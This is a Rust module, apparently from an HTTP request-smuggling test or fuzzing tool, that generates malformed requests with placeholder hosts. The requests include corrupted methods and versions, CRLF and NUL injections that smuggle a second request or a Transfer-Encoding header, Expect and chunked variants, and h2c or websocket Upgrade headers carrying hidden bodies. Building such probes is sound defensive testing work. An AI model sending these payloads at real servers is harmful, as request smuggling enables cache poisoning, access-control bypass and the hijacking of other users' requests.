//! Request lines, methods that have no body by habit, and fields that put the body off.

use super::attack::{Attack, HIDDEN, HOST, ends_early, in_a_chunk};

const METHODS: [&str; 14] = [
    "GET",
    "HEAD",
    "OPTIONS",
    "DELETE",
    "PUT",
    "post",
    "TRACE",
    "CONNECT",
    "PRI",
    "G<T",
    "GET\t",
    "GET\x0b",
    "\0GET",
    "P\u{d6}ST",
];

/// What stands between `POST ` and the end of the line.
const REST_OF_THE_LINE: [&str; 40] = [
    "/attack",
    "/attack ",
    "/attack HTTP/0.9",
    "/attack HTTP/1.0",
    "/attack HTTP/1.2",
    "/attack HTTP/1.10",
    "/attack HTTP/1.32",
    "/attack HTTP/01.1",
    "/attack HTTP/2",
    "/attack HTTP/2.0",
    "/attack HTTP/4294967297.1",
    "/attack HTTP/1,1",
    "/attack HTTP/1.1 ",
    "/attack HTTP/1.1\t",
    "/attack HTTP/1.1\x0b",
    "/attack HTTP/1.1\0",
    "/attack HTTP/1.1 HTTP/1.1",
    "/attack HTTP/\r\r1.1",
    "/attack http/1.1",
    "/attack HTTPS/1.1",
    "/attack\tHTTP/1.1",
    "/attack\rHTTP/1.1",
    "/attack\nHTTP/1.1",
    "/attack\x0cHTTP/1.1",
    "/attack\u{a0}HTTP/1.1",
    "  /attack HTTP/1.1",
    "/attack  HTTP/1.1",
    "/attack\0 HTTP/1.1",
    "/attack#/smuggled HTTP/1.1",
    "/attack HTTP/1.1\r\n/smuggled HTTP/1.1",
    "/attack%20HTTP/1.1%0d%0a%0d%0aGET%20/smuggled HTTP/1.1",
    "/attack?%0d%0aTransfer-Encoding:%20chunked HTTP/1.1",
    "http://smuggling.test/attack HTTP/1.1",
    "http://other.test/attack HTTP/1.1",
    "http://smuggling.test@other.test/attack HTTP/1.1",
    "@smuggled/attack HTTP/1.1",
    "smuggling.test/attack HTTP/1.1",
    "* HTTP/1.1",
    "?/attack HTTP/1.1",
    " HTTP/1.1",
];

const BEFORE_THE_LINE: [&str; 10] =
    ["\r\n", "\r\n\r\n", "\n", "\r", " ", "\t", "\0", "\x0b", "X\r\n", "HTTP/1.1 200 OK\r\n\r\n"];

const EXPECTATIONS: [&str; 10] = [
    "100-continue",
    "100-Continue",
    "x 100-continue",
    "100-continue, x",
    "100-continue\r\nExpect: 100-continue",
    "100-continue;a",
    "\"100-continue\"",
    "y",
    "",
    "\t100-continue",
];

/// Other protocols than this one, and words for the connection.
const CHANGES: [&str; 8] = [
    "Connection: Upgrade\r\nUpgrade: h2c",
    "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
    "Connection: HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\nSec-WebSocket-Key: x",
    "Connection: Upgrade\r\nUpgrade: websocket, h2c",
    "Connection: Host, X-Request-Id, X-Forwarded-For",
    "Connection: close, keep-alive, x",
    "Upgrade: TLS/1.0\r\nConnection: Upgrade",
];

pub fn attacks() -> Vec<Attack> {
    let body = ends_early();
    let rest = format!("Host: {HOST}\r\nContent-Length: {}", body.len());
    let mut attacks = Vec::new();
    let mut add = |line: String| {
        let name = format!("a line: {}", line.as_bytes().escape_ascii());
        attacks.push(Attack::new(name, format!("{line}\r\n{rest}").as_bytes(), body.as_bytes()));
    };
    METHODS.iter().for_each(|method| add(format!("{method} /attack HTTP/1.1")));
    REST_OF_THE_LINE.iter().for_each(|rest| add(format!("POST {rest}")));
    BEFORE_THE_LINE.iter().for_each(|before| add(format!("{before}POST /attack HTTP/1.1")));
    let bodied = ["POST", "GET", "HEAD", "OPTIONS"];
    for (method, expected) in bodied.iter().flat_map(|method| EXPECTATIONS.map(|expected| (method, expected))) {
        add(format!("{method} /attack HTTP/1.1\r\nExpect: {expected}"));
    }
    for method in bodied {
        let head = format!("{method} /attack HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: chunked");
        attacks.push(Attack::new(format!("{method} with chunks"), head.as_bytes(), in_a_chunk().as_bytes()));
    }
    for change in CHANGES {
        let head = format!("GET /attack HTTP/1.1\r\nHost: {HOST}\r\n{change}");
        attacks.push(Attack::new(format!("a change: {change}"), head.as_bytes(), b""));
        let body = format!("{HIDDEN}0\r\n\r\n");
        let with_length = format!("{head}\r\nContent-Length: {}", body.len());
        attacks.push(Attack::new(format!("with a body: {change}"), with_length.as_bytes(), body.as_bytes()));
    }
    attacks
}
